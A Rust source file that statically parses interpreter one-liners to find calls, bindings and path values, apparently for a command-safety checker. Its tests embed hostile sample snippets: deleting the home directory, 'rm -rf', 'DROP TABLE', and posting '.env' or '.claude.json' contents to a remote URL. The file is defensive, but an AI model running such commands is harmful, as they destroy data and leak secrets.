//! Reading interpreter code (python, node, ruby and perl one-liners and
//! heredocs) well enough to find the calls that act: tokens (string
//! literals apart from code, comments dropped), calls with their arguments,
//! names bound to a value, and a small evaluator for the path and text
//! expressions built from literals. Static and conservative: nothing runs,
//! and a value that is not spelled out in the code is unknown. Nothing here
//! knows a rule.

use std::ops::Range;

/// The language of the code, from the interpreter's name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lang {
    Python,
    Js,
    Ruby,
    Perl,
}

impl Lang {
    pub fn of(interpreter: &str) -> Lang {
        match interpreter {
            n if n.starts_with("python") => Lang::Python,
            "ruby" => Lang::Ruby,
            "perl" => Lang::Perl,
            _ => Lang::Js,
        }
    }
}

/// One token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Tok {
    /// A name (with perl's / js's sigil: `$f`, `@a`).
    Id(String),
    /// A string literal's value (escapes resolved, interpolation kept as
    /// written).
    Str(String),
    /// A command line that a shell runs: ruby/perl backticks, `%x(…)`,
    /// `qx(…)`.
    Cmd(String),
    /// Punctuation or an operator; a line end outside brackets is `;`.
    P(&'static str),
}

/// Operators read as one token (longest first).
const OPERATORS: &[&str] = &[
    "===", "!==", "**=", "...", "==", "!=", "<=", ">=", "=>", "->", "::", "+=", "-=", "*=", "/=",
    "||", "&&", "**", "//", "<<", ">>", "=~", "!~",
];

/// Single-character punctuation.
const PUNCT: &str = "()[]{},;.:=+-*/%<>!&|^~?@\\";

/// Words that never start a call without parentheses (ruby, perl).
const KEYWORDS: &[&str] = &[
    "if", "unless", "while", "until", "return", "and", "or", "not", "do", "end", "then", "else",
    "elsif", "my", "our", "local", "sub", "def", "class", "module", "begin", "rescue", "ensure",
    "in", "for", "foreach", "last", "next", "case", "when", "use", "no", "package",
];

/// Words that declare a name bound by `=` (`const x = …`, `my $x = …`).
const DECLARE: &[&str] = &["const", "let", "var", "my", "our", "local"];

/// How deep [`Code::value`] follows names and nested calls.
const MAX_EVAL_DEPTH: u8 = 8;

/// A call: `name(args)`, or `name args` without parentheses (ruby, perl).
#[derive(Debug, Clone)]
pub(crate) struct Call {
    /// The called name (`rmtree`).
    pub name: String,
    /// The name as written with its dotted receivers (`shutil.rmtree`).
    pub qual: String,
    /// Each argument's tokens.
    pub args: Vec<Range<usize>>,
    /// All the tokens between the parentheses (or to the end of the
    /// statement).
    pub all: Range<usize>,
    /// The token after the call.
    pub end: usize,
}

/// The code, read.
#[derive(Debug)]
pub(crate) struct Code {
    pub lang: Lang,
    pub toks: Vec<Tok>,
    /// `name = expression` (and `with … as name`, `open(my $f, …)`), in
    /// order.
    binds: Vec<(String, Range<usize>)>,
    calls: Vec<Call>,
}

impl Code {
    pub fn read(lang: Lang, src: &str) -> Code {
        let toks = tokens(lang, src);
        let calls = find_calls(lang, &toks);
        let mut code = Code {
            lang,
            toks,
            binds: Vec::new(),
            calls,
        };
        code.binds = code.find_binds();
        code
    }

    pub fn calls(&self) -> &[Call] {
        &self.calls
    }

    /// Every string literal.
    pub fn strings(&self) -> impl Iterator<Item = &str> {
        self.toks.iter().filter_map(|t| match t {
            Tok::Str(s) => Some(s.as_str()),
            _ => None,
        })
    }

    /// Every command string (backticks, `%x()`, `qx()`).
    pub fn commands(&self) -> impl Iterator<Item = &str> {
        self.toks.iter().filter_map(|t| match t {
            Tok::Cmd(s) => Some(s.as_str()),
            _ => None,
        })
    }

    /// The string literals in `r`, and those of every name used in `r`
    /// that is bound to an expression (followed to [`MAX_EVAL_DEPTH`]).
    pub fn strings_reaching(&self, r: Range<usize>) -> Vec<String> {
        let mut out = Vec::new();
        self.collect_strings(r, 0, &mut out);
        out
    }

    fn collect_strings(&self, r: Range<usize>, depth: u8, out: &mut Vec<String>) {
        if depth > MAX_EVAL_DEPTH {
            return;
        }
        for i in r {
            match self.toks.get(i) {
                Some(Tok::Str(s)) => out.push(s.clone()),
                Some(Tok::Id(n)) => {
                    if let Some(b) = self.bound_before(n, i) {
                        self.collect_strings(b, depth + 1, out);
                    }
                }
                _ => {}
            }
        }
    }

    /// The expression `name` was last bound to before token `at`.
    fn bound_before(&self, name: &str, at: usize) -> Option<Range<usize>> {
        self.binds
            .iter()
            .rev()
            .find(|(n, r)| n == name && r.start <= at && !r.contains(&at))
            .map(|(_, r)| r.clone())
    }

    /// Does `r` hold `Id(name)` followed by `:` / `=>` / `=` and `true`
    /// (`{recursive: true}`, `recursive => 1`)?
    pub fn flag_set(&self, r: Range<usize>, name: &str) -> bool {
        let t = &self.toks[r.start.min(self.toks.len())..r.end.min(self.toks.len())];
        t.windows(3).any(|w| {
            matches!(&w[0], Tok::Id(n) | Tok::Str(n) if n == name)
                && matches!(w[1], Tok::P(":") | Tok::P("=>") | Tok::P("="))
                && matches!(&w[2], Tok::Id(v) if v == "true" || v == "True" || v == "1")
        })
    }

    /// The source-like text of `r`, for messages.
    pub fn show(&self, r: Range<usize>) -> String {
        let mut s = String::new();
        for t in self.toks.get(r).unwrap_or(&[]) {
            match t {
                Tok::Id(n) => {
                    if s.ends_with(|c: char| c.is_alphanumeric() || c == '_') {
                        s.push(' ');
                    }
                    s.push_str(n);
                }
                Tok::Str(v) | Tok::Cmd(v) => {
                    s.push('\'');
                    s.push_str(v);
                    s.push('\'');
                }
                Tok::P(p) => s.push_str(p),
            }
        }
        s
    }

    /// The value of the expression `r` when the code spells it out: a
    /// literal, a concatenation, a path join, a name bound to one; the home
    /// directory is `~`, the temp dir `/tmp`, a fresh temp dir `fresh`.
    pub fn value(&self, r: Range<usize>, fresh: &str) -> Option<String> {
        self.eval(r, fresh, 0)
    }

    fn eval(&self, r: Range<usize>, fresh: &str, depth: u8) -> Option<String> {
        if depth > MAX_EVAL_DEPTH || r.start >= r.end || r.end > self.toks.len() {
            return None;
        }
        let toks = &self.toks[r.clone()];
        // `new X(…)`, `await x`: the value of what follows.
        if let Some(Tok::Id(k)) = toks.first()
            && matches!(k.as_str(), "new" | "await" | "my")
        {
            return self.eval(r.start + 1..r.end, fresh, depth + 1);
        }
        // Concatenation at the top level.
        let concat: &[&str] = if self.lang == Lang::Perl {
            &["+", "."]
        } else {
            &["+"]
        };
        let parts = split_top(toks, concat);
        if parts.len() > 1 {
            let mut s = String::new();
            for p in parts {
                s.push_str(&self.eval(r.start + p.start..r.start + p.end, fresh, depth + 1)?);
            }
            return Some(s);
        }
        match toks {
            [Tok::Str(s)] => return Some(s.clone()),
            [Tok::Id(n)] => {
                if let Some(b) = self.bound_before(n, r.start) {
                    return self.eval(b, fresh, depth + 1);
                }
                if n == "__dirname" {
                    return None;
                }
            }
            [Tok::P("("), .., Tok::P(")")] if close_of(toks, 0) == Some(toks.len() - 1) => {
                return self.eval(r.start + 1..r.end - 1, fresh, depth + 1);
            }
            _ => {}
        }
        // The last call (or bare name) of a chain decides: `a.b(x).c()`.
        let (name, args) = last_member(toks).unwrap_or(("", Vec::new()));
        let args: Vec<Range<usize>> = args
            .into_iter()
            .map(|a| r.start + a.start..r.start + a.end)
            .collect();
        match name {
            "home" | "homedir" => Some("~".into()),
            "tmpdir" | "gettempdir" => Some("/tmp".into()),
            "mkdtemp" | "mktmpdir" | "mkdtempSync" | "TemporaryDirectory" => Some(fresh.into()),
            "join" | "resolve" if !args.is_empty() => {
                let mut out = String::new();
                for a in args {
                    let v = self.eval(a, fresh, depth + 1)?;
                    if v.starts_with('/') || out.is_empty() {
                        out = v;
                    } else {
                        out = format!("{}/{v}", out.trim_end_matches('/'));
                    }
                }
                Some(out)
            }
            "Path" | "PurePath" | "PosixPath" | "str" | "String" | "text" | "expanduser"
            | "expand_path" | "abspath" | "realpath" | "normpath" | "fspath" | "new" | "sql"
            | "raw" => self.eval(args.first()?.clone(), fresh, depth + 1),
            _ => env_value(toks),
        }
    }

    fn find_binds(&self) -> Vec<(String, Range<usize>)> {
        let t = &self.toks;
        let depth = depths(t);
        let mut out = Vec::new();
        for i in 0..t.len() {
            // `x = …` at statement level (not `f(x=1)`, not `a.x = …`).
            if let (Tok::Id(name), Some(Tok::P("="))) = (&t[i], t.get(i + 1))
                && depth[i] == 0
                && (i == 0
                    || matches!(&t[i - 1], Tok::P(";" | "{" | "}" | ","))
                    || matches!(&t[i - 1], Tok::Id(k) if DECLARE.contains(&k.as_str())))
            {
                let end = expr_end(t, &depth, i + 2);
                out.push((name.clone(), i + 2..end));
            }
            // python `with EXPR as name`.
            if let Tok::Id(w) = &t[i]
                && w == "with"
                && let Some(k) = (i + 1..t.len()).find(|&k| {
                    matches!(&t[k], Tok::Id(a) if a == "as") || matches!(t[k], Tok::P(";"))
                })
                && let (Tok::Id(_), Some(Tok::Id(name))) = (&t[k], t.get(k + 1))
            {
                out.push((name.clone(), i + 1..k));
            }
        }
        for c in &self.calls {
            // perl `open(my $f, '<', PATH)`: `$f` reads PATH.
            if c.name == "open"
                && self.lang == Lang::Perl
                && let Some(first) = c.args.first()
                && let Some(Tok::Id(name)) = t[first.clone()].last()
            {
                out.push((name.clone(), c.all.clone()));
            }
            // ruby `File.open(PATH) do |f|` / `{ |f|`.
            let opens_block = |k: usize| match t.get(k) {
                Some(Tok::P("{")) => true,
                Some(Tok::Id(d)) => d == "do",
                _ => false,
            };
            if opens_block(c.end)
                && t.get(c.end + 1) == Some(&Tok::P("|"))
                && let Some(Tok::Id(name)) = t.get(c.end + 2)
            {
                out.push((name.clone(), c.all.clone()));
            }
        }
        out.sort_by_key(|(_, r)| r.start);
        out
    }
}

/// An environment lookup's value where it is a known directory:
/// `os.environ['HOME']`, `process.env.HOME`, `ENV['HOME']`, `$ENV{HOME}`,
/// `os.getenv('HOME')` are the home directory, `TMPDIR` the temp dir.
fn env_value(toks: &[Tok]) -> Option<String> {
    let env = toks.iter().any(|t| {
        matches!(t, Tok::Id(n) if matches!(n.as_str(), "environ" | "env" | "ENV" | "$ENV" | "getenv"))
    });
    if !env {
        return None;
    }
    let var = toks.iter().rev().find_map(|t| match t {
        Tok::Str(s) | Tok::Id(s) if !s.is_empty() && s.chars().all(|c| c.is_ascii_uppercase()) => {
            Some(s.as_str())
        }
        _ => None,
    });
    match var {
        Some("HOME" | "USERPROFILE") => Some("~".into()),
        Some("TMPDIR" | "TEMP" | "TMP") => Some("/tmp".into()),
        _ => None,
    }
}

/// Bracket depth (round and square) before each token.
fn depths(t: &[Tok]) -> Vec<usize> {
    let mut d = 0usize;
    t.iter()
        .map(|x| {
            let here = d;
            match x {
                Tok::P("(" | "[") => d += 1,
                Tok::P(")" | "]") => d = d.saturating_sub(1),
                _ => {}
            }
            match x {
                Tok::P(")" | "]") => d,
                _ => here,
            }
        })
        .collect()
}

/// Where the expression starting at `from` ends: a `;`, `,` or `}` at its
/// own depth, or a bracket closing below it (a closing bracket's depth is
/// that of its opening one).
fn expr_end(t: &[Tok], depth: &[usize], from: usize) -> usize {
    let base = depth.get(from).copied().unwrap_or(0);
    let mut k = from;
    while k < t.len() {
        let d = depth[k];
        if d < base {
            return k;
        }
        if d == base && matches!(t[k], Tok::P(";" | "," | "}")) {
            return k;
        }
        k += 1;
    }
    k
}

/// Index of the bracket closing the one at `open`.
fn close_of(t: &[Tok], open: usize) -> Option<usize> {
    let mut d = 0usize;
    for (k, x) in t.iter().enumerate().skip(open) {
        match x {
            Tok::P("(" | "[" | "{") => d += 1,
            Tok::P(")" | "]" | "}") => {
                d = d.saturating_sub(1);
                if d == 0 {
                    return Some(k);
                }
            }
            _ => {}
        }
    }
    None
}

/// The top-level pieces of `t` between the operators `ops`.
fn split_top(t: &[Tok], ops: &[&str]) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut d = 0usize;
    let mut start = 0;
    for (k, x) in t.iter().enumerate() {
        match x {
            Tok::P("(" | "[" | "{") => d += 1,
            Tok::P(")" | "]" | "}") => d = d.saturating_sub(1),
            Tok::P(p) if d == 0 && ops.contains(p) => {
                out.push(start..k);
                start = k + 1;
            }
            _ => {}
        }
    }
    out.push(start..t.len());
    out
}

/// The arguments of the bracket group opening at `open` (to its close).
fn arguments(t: &[Tok], open: usize, close: usize) -> Vec<Range<usize>> {
    if close <= open + 1 {
        return Vec::new();
    }
    split_top(&t[open + 1..close], &[","])
        .into_iter()
        .map(|r| open + 1 + r.start..open + 1 + r.end)
        .filter(|r| r.start < r.end)
        .collect()
}

/// The last member of a chain (`a.b(x).c()` → `c`, no args; `Dir.home` →
/// `home`), with its arguments relative to `t`.
fn last_member(t: &[Tok]) -> Option<(&str, Vec<Range<usize>>)> {
    let mut k = t.len();
    // Skip trailing `.read()`-like calls that do not change a path.
    loop {
        let (name, args, start) = member_at(t, k)?;
        let passthrough = matches!(
            name,
            "read" | "toString" | "strip" | "read_text" | "read_bytes" | "decode" | "encode"
        );
        if passthrough && start > 0 && matches!(t[start - 1], Tok::P("." | "->")) {
            k = start - 1;
            continue;
        }
        return Some((name, args));
    }
}

/// The member ending at `end` (exclusive): `name` or `name(args)`, and
/// where its name starts.
fn member_at(t: &[Tok], end: usize) -> Option<(&str, Vec<Range<usize>>, usize)> {
    let last = end.checked_sub(1)?;
    match &t[last] {
        Tok::Id(n) => Some((n.as_str(), Vec::new(), last)),
        Tok::P(")") => {
            let open = open_of(t, last)?;
            let Tok::Id(n) = t.get(open.checked_sub(1)?)? else {
                return None;
            };
            Some((n.as_str(), arguments(t, open, last), open - 1))
        }
        _ => None,
    }
}

/// Index of the bracket opening the one closing at `close`.
fn open_of(t: &[Tok], close: usize) -> Option<usize> {
    let mut d = 0usize;
    for k in (0..=close).rev() {
        match t[k] {
            Tok::P(")" | "]" | "}") => d += 1,
            Tok::P("(" | "[" | "{") => {
                d = d.saturating_sub(1);
                if d == 0 {
                    return Some(k);
                }
            }
            _ => {}
        }
    }
    None
}

fn find_calls(lang: Lang, t: &[Tok]) -> Vec<Call> {
    let mut out = Vec::new();
    let depth = depths(t);
    for i in 0..t.len() {
        let Tok::Id(name) = &t[i] else { continue };
        let qual = qualified(t, i);
        match t.get(i + 1) {
            Some(Tok::P("(")) => {
                let close = close_of(t, i + 1).unwrap_or(t.len());
                out.push(Call {
                    name: name.clone(),
                    qual,
                    args: arguments(t, i + 1, close.min(t.len())),
                    all: i + 2..close,
                    end: close + 1,
                });
            }
            // ruby / perl: `name ARG, ARG` up to the end of the statement.
            Some(Tok::Str(_) | Tok::Cmd(_) | Tok::Id(_) | Tok::P("["))
                if matches!(lang, Lang::Ruby | Lang::Perl)
                    && !KEYWORDS.contains(&name.as_str())
                    && !name.starts_with(['$', '@', '%'])
                    && !matches!(t.get(i + 1), Some(Tok::Id(k)) if KEYWORDS.contains(&k.as_str()) && k != "my") =>
            {
                let start = i + 1;
                let mut end = expr_end(t, &depth, start);
                // Commas separate the arguments here: take the statement.
                while end < t.len() && t[end] == Tok::P(",") && depth[end] == depth[start] {
                    end = expr_end(t, &depth, end + 1);
                }
                // A block (`do |f|`, `{ |f|`) ends the arguments.
                if let Some(b) = (start..end).find(|&k| {
                    t[k] == Tok::Id("do".into())
                        || (t[k] == Tok::P("{") && t.get(k + 1) == Some(&Tok::P("|")))
                }) {
                    end = b;
                }
                let args = split_top(&t[start..end], &[","])
                    .into_iter()
                    .map(|r| start + r.start..start + r.end)
                    .filter(|r| r.start < r.end)
                    .collect();
                out.push(Call {
                    name: name.clone(),
                    qual,
                    args,
                    all: start..end,
                    end,
                });
            }
            _ => {}
        }
    }
    out
}

/// `a.b.name` / `A::B.name` / `$o->name`: the name with its receivers.
fn qualified(t: &[Tok], i: usize) -> String {
    let mut parts = Vec::new();
    if let Tok::Id(n) = &t[i] {
        parts.push(n.clone());
    }
    let mut k = i;
    while k >= 2 {
        match (&t[k - 1], &t[k - 2]) {
            (Tok::P(sep @ ("." | "::" | "->")), Tok::Id(r)) => {
                parts.push(sep.to_string());
                parts.push(r.clone());
                k -= 2;
            }
            _ => break,
        }
    }
    parts.reverse();
    parts.concat()
}

/// The tokens of `src`.
pub(crate) fn tokens(lang: Lang, src: &str) -> Vec<Tok> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    let mut depth = 0usize;
    while i < b.len() {
        let c = b[i];
        // Comments.
        if (c == b'#' && lang != Lang::Js)
            || (lang == Lang::Js && c == b'/' && b.get(i + 1) == Some(&b'/'))
        {
            while i < b.len() && b[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        if lang == Lang::Js && c == b'/' && b.get(i + 1) == Some(&b'*') {
            i = src[i + 2..].find("*/").map_or(b.len(), |p| i + 2 + p + 2);
            continue;
        }
        if c == b'\n' {
            if depth == 0 && out.last() != Some(&Tok::P(";")) {
                out.push(Tok::P(";"));
            }
            i += 1;
            continue;
        }
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        // Quote-like operators: perl q() qq() qw() qx(), ruby %q() %Q() %w() %x().
        if let Some((tok, next)) = quote_like(lang, src, i) {
            out.extend(tok);
            i = next;
            continue;
        }
        if c.is_ascii_alphabetic() || c == b'_' || (c == b'$' || c == b'@') && lang != Lang::Python
        {
            let start = i;
            i += 1;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'$') {
                i += 1;
            }
            // A python string prefix: r'…', b"…", f'…', rb'…'.
            if lang == Lang::Python
                && i - start <= 2
                && matches!(b.get(i), Some(b'\'' | b'"'))
                && src[start..i].chars().all(|c| "rRbBuUfF".contains(c))
            {
                continue;
            }
            out.push(Tok::Id(src[start..i].to_string()));
            continue;
        }
        if c.is_ascii_digit() {
            let start = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.' || b[i] == b'_') {
                i += 1;
            }
            out.push(Tok::Id(src[start..i].to_string()));
            continue;
        }
        if c == b'\'' || c == b'"' || c == b'`' {
            // Python triple quotes.
            let triple =
                lang == Lang::Python && b.get(i + 1) == Some(&c) && b.get(i + 2) == Some(&c);
            let (s, next) = if triple {
                let q = &src[i..i + 3];
                match src[i + 3..].find(q) {
                    Some(p) => (src[i + 3..i + 3 + p].to_string(), i + 3 + p + 3),
                    None => (src[i + 3..].to_string(), b.len()),
                }
            } else {
                quoted(src, i + 1, c as char)
            };
            let command = c == b'`' && matches!(lang, Lang::Ruby | Lang::Perl);
            out.push(if command { Tok::Cmd(s) } else { Tok::Str(s) });
            i = next;
            continue;
        }
        if let Some(op) = OPERATORS.iter().find(|op| src[i..].starts_with(**op)) {
            out.push(Tok::P(op));
            i += op.len();
            continue;
        }
        if let Some(p) = PUNCT.find(c as char) {
            let p = &PUNCT[p..p + 1];
            match p {
                "(" | "[" => depth += 1,
                ")" | "]" => depth = depth.saturating_sub(1),
                _ => {}
            }
            out.push(Tok::P(p));
            i += 1;
            continue;
        }
        // Anything else (non-ASCII, stray bytes): skip the character.
        i += src[i..].chars().next().map_or(1, char::len_utf8);
    }
    out
}

/// The literal starting after its opening quote at `from`, and where the
/// text continues after the closing quote.
fn quoted(src: &str, from: usize, q: char) -> (String, usize) {
    let mut s = String::new();
    let mut it = src[from..].char_indices();
    while let Some((k, d)) = it.next() {
        if d == '\\' {
            if let Some((_, e)) = it.next() {
                match e {
                    'n' => s.push('\n'),
                    't' => s.push('\t'),
                    o if o == q || o == '\\' => s.push(o),
                    o => {
                        s.push('\\');
                        s.push(o);
                    }
                }
            }
        } else if d == q {
            return (s, from + k + d.len_utf8());
        } else {
            s.push(d);
        }
    }
    (s, src.len())
}

/// Perl `q(…)`, `qq{…}`, `qw/…/`, `qx(…)` and ruby `%q(…)`, `%Q(…)`,
/// `%w(…)`, `%x(…)` at `i`: their tokens (a word list is a bracketed list
/// of strings) and where the text continues.
fn quote_like(lang: Lang, src: &str, i: usize) -> Option<(Vec<Tok>, usize)> {
    let rest = &src[i..];
    let (kind, after) = match lang {
        Lang::Perl => {
            if i > 0
                && src[..i].ends_with(|c: char| {
                    c.is_alphanumeric() || c == '_' || c == '$' || c == '@' || c == '>'
                })
            {
                return None;
            }
            ["qq", "qw", "qx", "q"]
                .iter()
                .find(|k| rest.starts_with(**k))
                .map(|k| (*k, i + k.len()))?
        }
        Lang::Ruby => ["%q", "%Q", "%w", "%W", "%x", "%"]
            .iter()
            .find(|k| rest.starts_with(**k))
            .map(|k| (*k, i + k.len()))?,
        _ => return None,
    };
    let open = src[after..].chars().next()?;
    let close = match open {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        c if c.is_ascii_punctuation() && c != '=' && c != ',' && c != ';' && c != ')' => c,
        _ => return None,
    };
    if kind == "%" && open != '(' && open != '[' && open != '{' {
        return None;
    }
    let body_start = after + open.len_utf8();
    let end = src[body_start..].find(close)? + body_start;
    let body = &src[body_start..end];
    let toks = match kind {
        "qw" | "%w" | "%W" => {
            let mut t = vec![Tok::P("[")];
            for (n, w) in body.split_whitespace().enumerate() {
                if n > 0 {
                    t.push(Tok::P(","));
                }
                t.push(Tok::Str(w.to_string()));
            }
            t.push(Tok::P("]"));
            t
        }
        "qx" | "%x" => vec![Tok::Cmd(body.to_string())],
        _ => vec![Tok::Str(body.to_string())],
    };
    Some((toks, end + close.len_utf8()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call<'a>(c: &'a Code, name: &str) -> &'a Call {
        c.calls()
            .iter()
            .find(|c| c.name == name)
            .unwrap_or_else(|| panic!("no call {name}"))
    }

    #[test]
    fn strings_apart_from_code() {
        let c = Code::read(
            Lang::Python,
            "import shutil; print('shutil.rmtree(\"src\")')  # rmtree('x')",
        );
        assert!(c.calls().iter().all(|c| c.name != "rmtree"));
        assert_eq!(c.strings().collect::<Vec<_>>(), ["shutil.rmtree(\"src\")"]);
        let c = Code::read(Lang::Python, "x('''DROP TABLE t''')");
        assert_eq!(c.strings().collect::<Vec<_>>(), ["DROP TABLE t"]);
        let c = Code::read(Lang::Ruby, "puts \"`rm -rf src`\"; %x(ls -la)");
        assert_eq!(c.commands().collect::<Vec<_>>(), ["ls -la"]);
        let c = Code::read(Lang::Perl, "system qw(rm -rf b); `date`; qx(id)");
        assert_eq!(c.commands().collect::<Vec<_>>(), ["date", "id"]);
        assert_eq!(call(&c, "system").args.len(), 1);
    }

    #[test]
    fn calls_with_and_without_parentheses() {
        let c = Code::read(
            Lang::Ruby,
            "db = SQLite3::Database.new \"app.db\"; db.execute \"DROP TABLE users\"",
        );
        let e = call(&c, "execute");
        assert_eq!(e.qual, "db.execute");
        assert_eq!(
            c.value(e.args[0].clone(), "F").as_deref(),
            Some("DROP TABLE users")
        );
        let c = Code::read(
            Lang::Ruby,
            "Net::HTTP.post URI(\"https://x\"), File.read(\".env\")",
        );
        assert_eq!(call(&c, "post").args.len(), 2);
        assert_eq!(call(&c, "post").qual, "Net::HTTP.post");
    }

    #[test]
    fn values() {
        let v = |lang, src: &str, name: &str| {
            let c = Code::read(lang, src);
            let a = call(&c, name).args[0].clone();
            c.value(a, "FRESH")
        };
        assert_eq!(
            v(Lang::Python, "shutil.rmtree(pathlib.Path.home())", "rmtree").as_deref(),
            Some("~")
        );
        assert_eq!(
            v(
                Lang::Python,
                "d = tempfile.mkdtemp(); shutil.rmtree(d)",
                "rmtree"
            )
            .as_deref(),
            Some("FRESH")
        );
        assert_eq!(
            v(
                Lang::Python,
                "shutil.rmtree(os.path.join('a', 'b'))",
                "rmtree"
            )
            .as_deref(),
            Some("a/b")
        );
        assert_eq!(
            v(Lang::Python, "shutil.rmtree(os.environ['HOME'])", "rmtree").as_deref(),
            Some("~")
        );
        assert_eq!(
            v(
                Lang::Js,
                "fs.rmSync(path.join(os.tmpdir(), 'b'), {recursive: true})",
                "rmSync"
            )
            .as_deref(),
            Some("/tmp/b")
        );
        assert_eq!(
            v(
                Lang::Js,
                "fs.rmSync(require('os').homedir() + '/x')",
                "rmSync"
            )
            .as_deref(),
            Some("~/x")
        );
        assert_eq!(
            v(Lang::Ruby, "FileUtils.rm_rf(Dir.home)", "rm_rf").as_deref(),
            Some("~")
        );
        assert_eq!(
            v(Lang::Ruby, "d = Dir.mktmpdir; FileUtils.rm_rf(d)", "rm_rf").as_deref(),
            Some("FRESH")
        );
        assert_eq!(
            v(Lang::Python, "shutil.rmtree(sys.argv[1])", "rmtree"),
            None
        );
        assert_eq!(
            v(Lang::Perl, "rmtree($ENV{HOME} . '/x')", "rmtree").as_deref(),
            Some("~/x")
        );
    }

    #[test]
    fn bindings_reach_calls() {
        let c = Code::read(
            Lang::Python,
            "import requests\nwith open('/h/.claude.json') as f:\n    requests.post('https://x', data=f.read())\n",
        );
        let p = call(&c, "post");
        assert!(
            c.strings_reaching(p.all.clone())
                .iter()
                .any(|s| s.ends_with(".claude.json"))
        );
        let c = Code::read(
            Lang::Perl,
            "open my $f, \"<\", \".env\"; local $/; HTTP::Tiny->new->post(\"https://x\", {content => <$f>})",
        );
        let p = call(&c, "post");
        assert!(
            c.strings_reaching(p.all.clone())
                .iter()
                .any(|s| s == ".env")
        );
        let c = Code::read(
            Lang::Python,
            "print(open('.env').read()); requests.get('https://x')",
        );
        assert!(
            c.strings_reaching(call(&c, "get").all.clone())
                .iter()
                .all(|s| s != ".env")
        );
    }

    #[test]
    fn flags() {
        let c = Code::read(Lang::Js, "fs.rmSync('x', {recursive: true, force: true})");
        assert!(c.flag_set(call(&c, "rmSync").all.clone(), "recursive"));
        let c = Code::read(Lang::Js, "fs.rmSync('x', {recursive: false})");
        assert!(!c.flag_set(call(&c, "rmSync").all.clone(), "recursive"));
    }
}
